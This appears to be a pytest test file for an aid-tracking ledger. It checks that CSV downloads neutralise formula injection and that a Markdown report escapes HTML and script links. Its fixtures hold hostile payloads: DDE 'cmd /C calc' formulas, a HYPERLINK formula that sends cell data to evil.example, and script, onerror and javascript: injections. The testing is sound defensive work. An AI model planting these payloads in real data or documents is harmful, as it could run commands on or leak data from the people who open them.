"""Exports that open safely: hostile titles, names and descriptions recorded through the API come
out of every CSV neutralised against formula injection (numbers untouched), and out of the IRG
Markdown with no HTML and no `javascript:`/`data:` link. Downloaded as an anonymous reader where
anonymous readers may (a key where they may not), and from the CLI; both stores.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import pytest

from projections.views.csv_cells import NUMBER, TRIGGERS, safe_cell
from tests.support.processes import ledger_on
from tests.support.servers import LiveServer, client_for

ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
DESCRIPTION = "-2+3+cmd|' /C calc'!A0 <script>alert(1)</script> [details](javascript:alert(1))"
SECOND_TITLE = "+1+1 ![x](data:text/html;base64,PHNjcmlwdD4=) <img src=x onerror=alert(1)>"


def test_the_one_cell_function_neutralises_text_and_never_numbers() -> None:
    # Text beginning with a formula trigger, tab or CR gets a leading quote, list items too
    assert [safe_cell(v) for v in ("=1+1", "+1+1", "-x", "@x", "\t=1", "\r=1", "a;=b;c")] == [
        "'=1+1",
        "'+1+1",
        "'-x",
        "'@x",
        "'\t=1",
        "'\r=1",
        "a;'=b;c",
    ]
    # Numbers, plain text and absent values are left as they are
    assert [safe_cell(v) for v in ("-1500.00", "+3", "0.25", 42, None, "Kenya", "")] == [
        "-1500.00",
        "+3",
        "0.25",
        42,
        None,
        "Kenya",
        "",
    ]


def written(http: httpx.Client, path: str, body: dict[str, Any] | None = None) -> dict[str, Any]:
    r = http.post(path, json=body)
    assert r.status_code in (200, 201), r.text
    return dict(r.json())


@pytest.fixture
def hostile(http: httpx.Client, services: Any) -> dict[str, Any]:
    """A published need of Kenya and two programmes of a hostile organisation addressing it, recorded over HTTP."""
    org = written(http, "/v1/organisations", {"ref": "XM-EVIL-1", "name": ORGANISATION, "org_type": "10"})
    need = written(
        http,
        "/v1/needs",
        {
            "state": "KEN",
            "article": 9,
            "ta_types": ["legal-advice"],
            "description": DESCRIPTION,
            "horizon": "current",
            "priority": "high",
            "source": {"kind": "country-review-report", "reference": "CRR Kenya", "cycle": 2},
        },
    )
    estimate = {"amount": "250000", "currency": "USD", "value_date": "2024-01-10"}
    written(http, f"/v1/needs/{need['id']}/estimate", estimate)
    position = written(http, f"/v1/needs/{need['id']}/publish")["position"]
    for title in (TITLE, SECOND_TITLE):
        programme = written(
            http,
            "/v1/programmes",
            {"title": title, "reporting_org": org["id"], "funders": [org["id"]], "states": ["KEN"], "status": 2},
        )
        written(http, f"/v1/programmes/{programme['id']}/link-need", {"need_id": need["id"], "share": "0.5"})
        money = {"funder": org["id"], "amount": "50000", "currency": "USD", "value_date": "2024-05-01"}
        position = written(http, f"/v1/programmes/{programme['id']}/commitments", money)["position"]
    return {"need": need["id"], "position": position}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_safe(rows: list[list[str]], hostile_texts: tuple[str, ...]) -> None:
    """No cell a spreadsheet would run; each hostile text is there, quoted."""
    flat = [c for row in rows for c in row]
    runnable = [c for c in flat if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert runnable == []
    for text in hostile_texts:
        assert any(text in c for c in flat), f"{text!r} is not in the export"
        assert not any(c.startswith(text) for c in flat)
        assert any(c.startswith("'" + text) or f";'{text}" in c for c in flat)


def test_every_csv_download_neutralises_hostile_text(
    server: LiveServer, keys: dict[str, str], hostile: dict[str, Any]
) -> None:
    wait = {"min_position": hostile["position"], "format": "csv"}
    with client_for(server, None) as anonymous, client_for(server, keys["state"]) as state:
        downloads = {
            "unmet-needs": anonymous.get("/v1/views/unmet-needs", params=wait),
            "provider-overlap": anonymous.get("/v1/views/provider-overlap", params=wait),
            "irg": anonymous.get("/v1/reports/irg/KEN", params=wait),
            "programme-monitoring": state.get("/v1/views/programme-monitoring", params=wait),  # keys only
        }
    expected = {
        "unmet-needs": (DESCRIPTION, ORGANISATION),
        "provider-overlap": (ORGANISATION,),
        "irg": (DESCRIPTION, ORGANISATION, TITLE),
        "programme-monitoring": (TITLE, SECOND_TITLE, ORGANISATION),
    }
    for name, r in downloads.items():
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), (name, r.text)
        assert_safe(cells(r.text), expected[name])
    # And the numbers are numbers still: the estimate and the commitments, unquoted
    unmet = cells(downloads["unmet-needs"].text)
    row = dict(zip(unmet[0], unmet[1], strict=True))
    assert row["estimated"] == "250000.00"
    assert NUMBER.fullmatch(row["allocated_commitment"]) and NUMBER.fullmatch(row["gap"]), row


def test_the_cli_csv_exports_neutralise_hostile_text(services: Any, hostile: dict[str, Any]) -> None:
    exported = ledger_on(services.settings, "export", "csv", "--state", "KEN")
    report = ledger_on(services.settings, "report", "irg", "KEN", "--format", "csv")
    for done, texts in ((exported, (DESCRIPTION, ORGANISATION)), (report, (DESCRIPTION, ORGANISATION, TITLE))):
        assert done.returncode == 0, done.stderr[-2000:]
        assert_safe(cells(done.stdout), texts)


def test_the_irg_markdown_carries_no_html_and_no_script_link(server: LiveServer, hostile: dict[str, Any]) -> None:
    with client_for(server, None) as anonymous:
        r = anonymous.get("/v1/reports/irg/KEN", params={"format": "md", "min_position": hostile["position"]})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/markdown")
    md = r.text
    # No tag, no link or image, no script scheme survives from the ledger's text
    for raw in ("<script", "<img", "javascript:", "data:text/html"):
        assert raw not in md.lower(), raw
    assert re.search(r"(?<!\\)\]\(", md) is None  # every `](` of a would-be link is escaped
    # And the text is still there to read, escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "\\[details\\](javascript&#58;alert(1))" in md
    assert "&lt;img src=x onerror=alert(1)&gt;" in md
